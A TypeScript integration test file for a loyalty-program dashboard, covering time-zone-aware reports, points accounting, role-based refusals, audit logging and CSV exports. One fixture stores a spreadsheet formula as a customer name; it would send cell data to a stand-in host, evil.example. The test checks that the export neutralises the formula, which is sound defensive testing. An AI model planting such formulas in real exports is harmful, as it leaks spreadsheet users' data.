/**
 * The dashboard's reports and CSV exports on a real database (PGlite, and PostgreSQL when TEST_DATABASE_URL is set):
 *  - the report's figures for a known ledger in a program whose days are Europe/Madrid's (an entry at 23:30 UTC
 *    counts on the next day), against the previous period, with an erased customer leaving the liability (and an
 *    expiry written after his erasure not leaving it twice);
 *  - on a test program whose clock was moved, "points expiring in the next 30 days" and the preset ranges follow the
 *    program clock, not the database's or real time (in the report and on the page);
 *  - the exports through the built app with real staff sessions: the CSV parsed and compared with the database,
 *    refusals per role, another program's pool, invalid filters, the audit row each export leaves, and the
 *    formula-injection guard.
 */
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import type { PrismaClient } from "@/lib/generated/prisma/client";
import { applyUserBatch } from "@/lib/domain/customers";
import { createCouponPool, importCoupons, assignCoupon } from "@/lib/domain/coupons";
import { changeBalance } from "@/lib/domain/ledger";
import { advanceClock } from "@/lib/domain/program-clock";
import { createProgram } from "@/lib/domain/programs";
import { createStaff } from "@/lib/domain/staff";
import { createTier } from "@/lib/domain/tiers";
import type { LedgerType } from "@/lib/domain/vocabulary";
import { resolveRange } from "@/lib/staff/report-range";
import { programReport, type Report } from "@/lib/staff/queries/reports";
import { pointsAccounting, rollUpPoints, type PointsAccounting } from "@/lib/domain/accounting";
import { BACKENDS, MIGRATED_ONLY, openStack, type Stack } from "../support/stack";
import { signIn, staffCall } from "../support/staff-http";

const PASSWORD = "correct horse battery staple";
const ROLES = ["owner", "manager", "support", "viewer", "outsider"] as const;
type Who = (typeof ROLES)[number];

/** Cells a spreadsheet would run as formulas, stored as a customer's names. */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
const AT_FORMULA = "@SUM(1+1)";

interface World {
  programId: string;
  /** A test program whose clock was moved (the expiring figure follows it), its viewer, and its reports. */
  clock: { programId: string; viewer: string; atClock: Report; later: Report };
  otherProgramId: string;
  poolId: string;
  otherPoolId: string;
  emails: Record<Who, string>;
  customers: Record<string, string>;
  report: Report;
  /** The points accounting of the same days, from the ledger, then from the rolled-up days. */
  accounting: PointsAccounting;
  accountingRolled: PointsAccounting;
  rolledThrough: string | null;
  /** The database's view of what the exports must hold, read before the app starts (PGlite: one process). */
  expected: {
    customers: { id: string; email: string; balance: number; tier: string | null; firstName: string | null }[];
    ledgerIds: string[];
    codes: { code: string; customerId: string | null }[];
  };
}

async function build(prisma: PrismaClient, tag: string): Promise<World> {
  const { programId } = await createProgram(prisma, { name: "Reports" });
  const { programId: otherProgramId } = await createProgram(prisma, { name: "Elsewhere" });
  await prisma.program.update({ where: { id: programId }, data: { timeZone: "Europe/Madrid" } });
  for (const [name, requiredPoints] of [
    ["Bronze", 0],
    ["Silver", 1000],
    ["Gold", 5000],
  ] as const)
    await createTier(prisma, { programId, name, requiredPoints, factor: 1 });

  const emails = {} as Record<Who, string>;
  for (const role of ROLES) {
    emails[role] = `${role}.${tag}@staff.example`;
    await createStaff(prisma, {
      email: emails[role],
      password: PASSWORD,
      programId: role === "outsider" ? otherProgramId : programId,
      role: role === "outsider" ? "owner" : role,
    });
  }

  const people = {
    a: { email: `ana.${tag}@example.com`, payload: { firstName: "Ana", lastName: 'O"Brien, "Jr"\nthe second' } },
    b: { email: `ben.${tag}@example.com`, payload: { firstName: "Ben", lastName: "Marsh" } },
    c: {
      email: `eve.${tag}@example.com`,
      payload: { firstName: FORMULA, lastName: AT_FORMULA, phone: "+34 600 000 000" },
    },
    d: { email: `dan.${tag}@example.com`, payload: { firstName: "Dan", lastName: "Gone" } },
  };
  await prisma.$transaction((tx) =>
    applyUserBatch(
      tx,
      programId,
      Object.values(people).map((p) => ({ email: p.email, feature: "user" as const, payload: p.payload })),
    ),
  );
  const customers: Record<string, string> = {};
  for (const [k, p] of Object.entries(people))
    customers[k] = (await prisma.customer.findFirstOrThrow({ where: { programId, email: p.email } })).id;
  const setCreated = (id: string, at: string) =>
    prisma.$executeRawUnsafe(`UPDATE "Customer" SET "createdAt" = $2::timestamptz WHERE id = $1::uuid`, id, at);
  await setCreated(customers.a!, "2026-01-01T00:00:00Z");
  await setCreated(customers.b!, "2026-03-02T00:30:00Z");
  await setCreated(customers.d!, "2026-01-01T00:00:00Z");

  const move = (key: string, points: number, type: LedgerType, at: string) =>
    prisma.$transaction((tx) =>
      changeBalance(tx, {
        programId,
        customerId: customers[key]!,
        points,
        type,
        source: type === "expire" ? "system" : "api",
        actor: "test",
        now: new Date(at),
      }),
    );
  await move("d", 70, "earn", "2026-01-10T12:00:00Z"); // before the previous period
  await move("a", 1000, "earn", "2026-02-20T10:00:00Z"); // previous period
  await move("a", 200, "earn", "2026-02-28T23:30:00Z"); // 1 March 00:30 in Madrid: the current period's first day
  await move("b", 500, "earn", "2026-03-02T01:00:00Z");
  await move("a", -300, "redeem", "2026-03-05T12:00:00Z");
  await move("b", -100, "expire", "2026-03-06T12:00:00Z");
  await move("a", -50, "adjust", "2026-03-07T12:00:00Z");
  await move("b", 40, "earn", "2026-03-10T23:00:00Z"); // 11 March 00:00 in Madrid: after the period
  // Dan is erased on 3 March: a member and a liability before, neither after.
  await prisma.$executeRawUnsafe(
    `UPDATE "Customer" SET "deletedAt" = '2026-03-03T12:00:00Z', email = NULL WHERE id = $1::uuid`,
    customers.d,
  );
  // The expiry job still expires an erased customer's lots: in the program's totals, not in the liability (Dan's
  // points left it when he was erased).
  await move("d", -70, "expire", "2026-03-08T12:00:00Z");

  const { couponPoolId: poolId } = await createCouponPool(prisma, { programId, name: "Welcome" });
  await importCoupons(prisma, poolId, ["SAVE-10", "A-1", "B-2", "ZED-99"]);
  await prisma.$transaction((tx) => assignCoupon(tx, { programId, customerId: customers.a!, couponPoolId: poolId }));
  const { couponPoolId: otherPoolId } = await createCouponPool(prisma, { programId: otherProgramId, name: "Theirs" });

  const range = resolveRange({ range: "custom", from: "2026-03-01", to: "2026-03-10" }, "Europe/Madrid");
  const report = await programReport(prisma, programId, range, new Date("2026-03-11T12:00:00Z"));
  await prisma.program.update({ where: { id: programId }, data: { currency: "EUR", pointValue: "0.01" } });
  const accounting = await pointsAccounting(prisma, programId, "2026-03-01", "2026-03-10");
  const { through: rolledThrough } = await rollUpPoints(prisma, programId, new Date("2026-03-12T00:00:00Z"));
  const accountingRolled = await pointsAccounting(prisma, programId, "2026-03-01", "2026-03-10");
  const expected = {
    customers: await prisma.$queryRawUnsafe<World["expected"]["customers"]>(
      `SELECT c.id, c.email, l.balance, t.name AS tier, u."firstName"
       FROM "Customer" c JOIN "LoyaltyData" l ON l."customerId" = c.id JOIN "UserData" u ON u."customerId" = c.id
         JOIN "CustomerTier" ct ON ct."customerId" = c.id LEFT JOIN "Tier" t ON t.id = ct."currentTierId"
       WHERE c."programId" = $1::uuid AND c."deletedAt" IS NULL ORDER BY c.email`,
      programId,
    ),
    ledgerIds: (
      await prisma.ledgerEntry.findMany({
        where: {
          programId,
          createdAt: { gte: new Date("2026-02-28T23:00:00Z"), lt: new Date("2026-03-10T23:00:00Z") },
        },
        orderBy: [{ createdAt: "asc" }, { id: "asc" }],
        select: { id: true },
      })
    ).map((e) => e.id),
    codes: await prisma.coupon.findMany({
      where: { poolId },
      select: { code: true, customerId: true },
    }),
  };
  return {
    programId,
    clock: await clockProgram(prisma, tag),
    otherProgramId,
    poolId,
    otherPoolId,
    emails,
    customers,
    report,
    accounting,
    accountingRolled,
    rolledThrough,
    expected,
  };
}

/** When the test program's clock stands: 100 points earned on its first day expire on 1 July (6 months). */
const CLOCK_START = new Date("2026-01-01T00:00:00Z");
const CLOCK_AT = new Date("2026-06-15T00:00:00Z");

/**
 * A test program started on 1 January 2026, 100 points earned then (expiring on 1 July, 6 months later), its clock
 * moved to 15 June: on its clock they expire within 30 days; on real time (past 1 July) they would be overdue.
 */
async function clockProgram(prisma: PrismaClient, tag: string): Promise<World["clock"]> {
  const { programId } = await createProgram(prisma, {
    name: "Reports on a clock",
    test: true,
    clockAt: CLOCK_START,
    pointsExpiryMonths: 6,
  });
  const viewer = `clock.${tag}@staff.example`;
  await createStaff(prisma, { email: viewer, password: PASSWORD, programId, role: "viewer" });
  const email = `clocked.${tag}@example.com`;
  await prisma.$transaction((tx) => applyUserBatch(tx, programId, [{ email, feature: "user", payload: {} }]));
  const customerId = (await prisma.customer.findFirstOrThrow({ where: { programId, email } })).id;
  await prisma.$transaction((tx) =>
    changeBalance(tx, {
      programId,
      customerId,
      points: 100,
      type: "earn",
      source: "api",
      actor: "test",
      now: CLOCK_START,
    }),
  );
  await advanceClock(prisma, programId, { to: CLOCK_AT });
  const report = (now: Date) => programReport(prisma, programId, resolveRange({ range: "30d" }, "UTC", now), now);
  return { programId, viewer, atClock: await report(CLOCK_AT), later: await report(new Date("2026-07-02T00:00:00Z")) };
}

const csv = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

for (const backend of BACKENDS) {
  describe(`dashboard reports and exports [${backend}]`, () => {
    let stack: Stack<Record<never, never>>;
    let world: World;
    const cookies = {} as Record<Who, string>;
    let clockViewer: string;

    before(async () => {
      stack = await openStack(backend, MIGRATED_ONLY);
      world = await stack.withPrisma((prisma) => build(prisma, Math.random().toString(36).slice(2, 8)));
      await stack.start();
      for (const who of ROLES) cookies[who] = (await signIn(stack.baseUrl, world.emails[who], PASSWORD))!;
      clockViewer = (await signIn(stack.baseUrl, world.clock.viewer, PASSWORD))!;
    });
    after(() => stack?.close());

    const get = (who: Who | null, path: string) =>
      staffCall(stack.baseUrl, who ? cookies[who] : null, "GET", `/api/staff/${world.programId}/exports/${path}`);

    test("the report counts days in the program's time zone: 23:30 UTC on 28 February is 1 March in Madrid", () => {
      const { report } = world;
      assert.equal(report.timeZone, "Europe/Madrid");
      assert.equal(report.days.length, 10);
      assert.deepEqual(report.days[0], {
        day: "2026-03-01",
        issued: 200,
        redeemed: 0,
        expired: 0,
        newMembers: 0,
        liability: 1270,
      });
      // 11 March 00:00 in Madrid is outside the period.
      assert.equal(report.days.at(-1)!.day, "2026-03-10");
      assert.equal(
        report.days.reduce((s, d) => s + d.issued, 0),
        700,
      );
    });

    test("the report's totals and the previous period's, with the liability from the ledger", () => {
      const { current, previous } = world.report;
      assert.deepEqual(current, {
        members: 2,
        newMembers: 1,
        activeMembers: 2,
        issued: 700,
        redeemed: 300,
        // Dan's expiry on 8 March came after his erasure: his balance left the books on 3 March, so it counts
        // nowhere (lib/domain/accounting.ts).
        expired: 100,
        deducted: 50,
        // 70 + 1000 before, + 700 − 300 − 100 − 50 in the period, − 70 of the customer erased on 3 March (his
        // expiry on 8 March, after his erasure, is not subtracted again).
        liability: 1250,
        redemptionRate: 300 / 700,
      });
      assert.deepEqual(previous, {
        members: 2,
        newMembers: 0,
        activeMembers: 1,
        issued: 1000,
        redeemed: 0,
        expired: 0,
        deducted: 0,
        liability: 1070,
        redemptionRate: 0,
      });
      // The liability at the period's end is the sum of the live customers' balances then; today it is their balances.
      const day3 = world.report.days.find((d) => d.day === "2026-03-03")!;
      assert.equal(day3.liability, 1270 + 500 - 70);
    });

    test("every tier is in the distribution, those with no members too", () => {
      assert.deepEqual(
        world.report.tiers.map((t) => t.name),
        ["No tier", "Bronze", "Silver", "Gold"],
      );
      const byName = Object.fromEntries(world.report.tiers.map((t) => [t.name, t.customers]));
      assert.equal(byName.Gold, 0);
      assert.equal(
        world.report.tiers.reduce((s, t) => s + t.customers, 0),
        3,
      );
    });

    test("the reports page shows the period, the comparison and the liability", async () => {
      const res = await staffCall(
        stack.baseUrl,
        cookies.viewer,
        "GET",
        `/dashboard/${world.programId}?range=custom&from=2026-03-01&to=2026-03-10`,
      );
      assert.equal(res.status, 200);
      const html = res.text.replaceAll("<!-- -->", "");
      assert.match(
        html,
        /2026-03-01 – 2026-03-10<\/strong> \(10 days, Europe\/Madrid\) compared with 2026-02-19 – 2026-02-28/,
      );
      assert.match(html, /Outstanding points<\/p><p[^>]*>1,250<\/p>/);
      // Viewers may read reports but not take the ledger export.
      assert.doesNotMatch(res.text, /Export the points ledger/);
    });

    test("a test program's report is as of its clock: points expiring in the next 30 days follow the program clock", async () => {
      const { atClock, later } = world.clock;
      assert.deepEqual([atClock.expiringNext30Days, atClock.awaitingExpiry], [100, 0]);
      assert.deepEqual([atClock.range.from, atClock.range.to], ["2026-05-17", "2026-06-15"]);
      // The same lot seen after 1 July: past its expiry, awaiting the job (what the database's now() said before).
      assert.deepEqual([later.expiringNext30Days, later.awaitingExpiry], [0, 100]);
      const res = await staffCall(stack.baseUrl, clockViewer, "GET", `/dashboard/${world.clock.programId}?range=7d`);
      assert.equal(res.status, 200);
      const html = res.text.replaceAll("<!-- -->", "");
      assert.match(html, /2026-06-09 – 2026-06-15<\/strong> \(7 days, UTC\)/);
      assert.match(html, /Expiring in the next 30 days<\/p><p[^>]*>100<\/p>/);
      assert.doesNotMatch(html, /awaiting expiry/);
    });

    test("the customers export streams the list's filter as an attachment, as the database holds it", async () => {
      const res = await get("manager", "customers");
      assert.equal(res.status, 200);
      assert.match(res.headers.get("content-type")!, /^text\/csv/);
      assert.match(
        res.headers.get("content-disposition")!,
        /^attachment; filename="customers-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      assert.equal(res.headers.get("x-export-rows"), "3");
      const rows = csv(res.text);
      assert.deepEqual(
        rows.map((r) => [r.id, r.email, Number(r.balance), r.tier || null]),
        world.expected.customers.map((c) => [c.id, c.email, Number(c.balance), c.tier]),
      );
      // RFC 4180: the comma, the quotes and the line break of a name come back as they were stored.
      assert.equal(rows.find((r) => r.email!.startsWith("ana."))!.lastName, 'O"Brien, "Jr"\nthe second');
      const filtered = csv((await get("manager", "customers?q=BEN")).text);
      assert.deepEqual(
        filtered.map((r) => r.email),
        world.expected.customers.filter((c) => c.email.startsWith("ben.")).map((c) => c.email),
      );
    });

    test("threat-csv-formula-injection: cells that would run as formulas are written as text", async () => {
      const raw = (await get("owner", "customers?q=eve")).text;
      const [row] = csv(raw);
      assert.equal(row!.firstName, `'${FORMULA}`);
      assert.equal(row!.lastName, `'${AT_FORMULA}`);
      assert.equal(row!.phone, "'+34 600 000 000");
      // Numbers are numbers, never prefixed (a negative balance change stays -300).
      const ledger = csv((await get("owner", "ledger?from=2026-03-01&to=2026-03-10")).text);
      assert.ok(ledger.some((r) => r.points === "-300"));
    });

    test("the ledger export holds the period's entries in the program's days, oldest first", async () => {
      const res = await get("manager", "ledger?from=2026-03-01&to=2026-03-10");
      assert.equal(res.status, 200);
      const rows = csv(res.text);
      assert.deepEqual(
        rows.map((r) => r.id),
        world.expected.ledgerIds,
      );
      assert.equal(res.headers.get("x-export-rows"), String(world.expected.ledgerIds.length));
      assert.deepEqual(
        rows.map((r) => Number(r.points)),
        [200, 500, -300, -100, -50, -70],
      );
    });

    test("coupon codes of a pool; another program's pool is not found", async () => {
      const rows = csv((await get("manager", `coupon-codes?pool=${world.poolId}`)).text);
      assert.equal(rows.length, world.expected.codes.length);
      const assigned = world.expected.codes.find((c) => c.customerId)!;
      const row = rows.find((r) => r.customerId === assigned.customerId)!;
      assert.equal(row.status, "assigned");
      assert.equal(rows.filter((r) => r.status === "free").length, 3);
      const other = await get("manager", `coupon-codes?pool=${world.otherPoolId}`);
      assert.equal(other.status, 404);
      assert.equal(other.json?.code, "coupon_pool_not_found");
    });

    test("refusals: roles without the export, another program's staff, signed out, bad filters", async () => {
      for (const who of ["support", "viewer"] as const)
        for (const path of ["customers", "ledger", "redemptions", "audit-log", `coupon-codes?pool=${world.poolId}`]) {
          const res = await get(who, path);
          assert.equal(res.status, 403, `${who} ${path}`);
          assert.equal(res.json?.code, "forbidden");
        }
      const outsider = await get("outsider", "customers");
      assert.equal(outsider.status, 403);
      assert.doesNotMatch(outsider.text, /@example\.com/);
      assert.equal((await get(null, "customers")).status, 401);
      const bad = await get("manager", "ledger?from=2026-02-30&to=2026-03-01");
      assert.equal(bad.status, 400);
      assert.equal(bad.json?.code, "validation_failed");
      assert.equal((await get("manager", "ledger?from=2026-03-02&to=2026-03-01")).status, 400);
      assert.equal((await get("manager", "customers?evil=1")).status, 400);
      assert.equal((await get("manager", "passwords")).status, 404);
    });

    test("each export is audited: who, which kind, which filter, how many rows", async () => {
      await get("manager", "redemptions?from=2026-03-01");
      const audit = csv((await get("owner", "audit-log")).text).filter((r) => r.action === "data.export");
      const mine = audit.filter((r) => r.staffEmail === world.emails.manager);
      const last = JSON.parse(mine.at(-1)!.after!);
      assert.deepEqual(last, { kind: "redemptions", filter: { from: "2026-03-01" }, rows: 0, complete: true });
      const customers = mine.map((r) => JSON.parse(r.after!)).find((a) => a.kind === "customers");
      assert.equal(customers.rows, 3);
      // Refused exports leave no row.
      assert.equal(audit.filter((r) => r.staffEmail === world.emails.support).length, 0);
    });

    test("points accounting: the same days as books, an erasure written off, reconciled to the cent", () => {
      const { accounting: a, accountingRolled: rolled } = world;
      const byDay = Object.fromEntries(a.days.map((d) => [d.day, d]));
      // 70 + 1000 before the period; Dan's 70 written off on 3 March; his expiry on 8 March is not the books'.
      assert.equal(byDay["2026-03-01"]!.openingOutstanding, 1070);
      assert.equal(byDay["2026-03-01"]!.earned, 200);
      assert.equal(byDay["2026-03-03"]!.adjusted, -70);
      assert.equal(byDay["2026-03-03"]!.erased, 70);
      assert.equal(byDay["2026-03-08"]!.expired, 0);
      const { money, breakage, ...totals } = a.totals;
      assert.deepEqual(totals, {
        openingOutstanding: 1070,
        earned: 700,
        pendingCreated: 0,
        pendingMatured: 0,
        pendingCancelled: 0,
        reversed: 0,
        redeemed: 300,
        redemptionsCancelled: 0,
        expired: 100,
        adjusted: -120,
        erased: 70,
        closingOutstanding: 1250,
        pendingOutstanding: 0,
      });
      // The Overview's liability is the same figure.
      assert.equal(totals.closingOutstanding, world.report.current.liability);
      assert.equal(money!.closingOutstanding, "12.50");
      assert.equal(money!.adjusted, "-1.20");
      assert.equal(breakage, 100 / 1770);
      for (const d of a.days)
        assert.equal(
          d.closingOutstanding,
          d.openingOutstanding + d.earned - d.reversed - d.redeemed + d.redemptionsCancelled - d.expired + d.adjusted,
        );
      // At 01:00 on 12 March in Madrid every day up to 11 March is over: rolled up through it, read back the same.
      assert.equal(world.rolledThrough, "2026-03-11");
      assert.equal(rolled.rolledUpThrough, "2026-03-11");
      assert.deepEqual({ ...rolled, rolledUpThrough: null }, a);
    });

    test("the Finance page and its CSV export, for every role that reads the program", async () => {
      const page = await staffCall(
        stack.baseUrl,
        cookies.viewer,
        "GET",
        `/dashboard/${world.programId}/finance?range=custom&from=2026-03-01&to=2026-03-10`,
      );
      assert.equal(page.status, 200);
      const html = page.text.replaceAll("<!-- -->", "");
      assert.match(html, /2026-03-01 – 2026-03-10<\/strong> \(10 days, Europe\/Madrid\)/);
      assert.match(html, /12\.50 EUR/);
      const res = await get("viewer", "points-accounting?from=2026-03-01&to=2026-03-10");
      assert.equal(res.status, 200);
      assert.equal(res.headers.get("x-export-rows"), "10");
      const rows = csv(res.text);
      assert.deepEqual(
        rows.map((r) => r.day),
        world.accounting.days.map((d) => d.day),
      );
      assert.equal(rows.at(-1)!.closingOutstanding, "1250");
      assert.equal(rows.at(-1)!.closingOutstandingMoney, "12.50");
      assert.equal(rows.at(-1)!.currency, "EUR");
      assert.equal((await get("viewer", "points-accounting?from=2026-03-01")).status, 400);
      assert.equal((await get("viewer", "points-accounting?from=2020-01-01&to=2026-03-01")).status, 400);
      assert.equal((await get("outsider", "points-accounting?from=2026-03-01&to=2026-03-10")).status, 403);
    });

    test("the value of a point: managers set it (audited), viewers may not, half a setting is refused", async () => {
      const url = `/api/staff/${world.programId}/finance/point-value`;
      const viewer = await staffCall(stack.baseUrl, cookies.viewer, "PATCH", url, {
        currency: "USD",
        pointValue: "0.02",
      });
      assert.equal(viewer.status, 403);
      const half = await staffCall(stack.baseUrl, cookies.manager, "PATCH", url, { currency: "USD", pointValue: null });
      assert.equal(half.status, 400);
      const tooFine = await staffCall(stack.baseUrl, cookies.manager, "PATCH", url, {
        currency: "USD",
        pointValue: "0.0000001",
      });
      assert.equal(tooFine.status, 400);
      const ok = await staffCall(stack.baseUrl, cookies.manager, "PATCH", url, { currency: "usd", pointValue: "0.02" });
      assert.equal(ok.status, 200, ok.text);
      const rows = csv((await get("viewer", "points-accounting?from=2026-03-10&to=2026-03-10")).text);
      assert.equal(rows[0]!.closingOutstandingMoney, "25.00");
      assert.equal(rows[0]!.currency, "USD");
      const back = await staffCall(stack.baseUrl, cookies.manager, "PATCH", url, {
        currency: "EUR",
        pointValue: "0.01",
      });
      assert.equal(back.status, 200);
      const audit = csv((await get("owner", "audit-log")).text).filter((r) => r.action === "program.point_value");
      assert.equal(audit.length, 2);
    });
  });
}
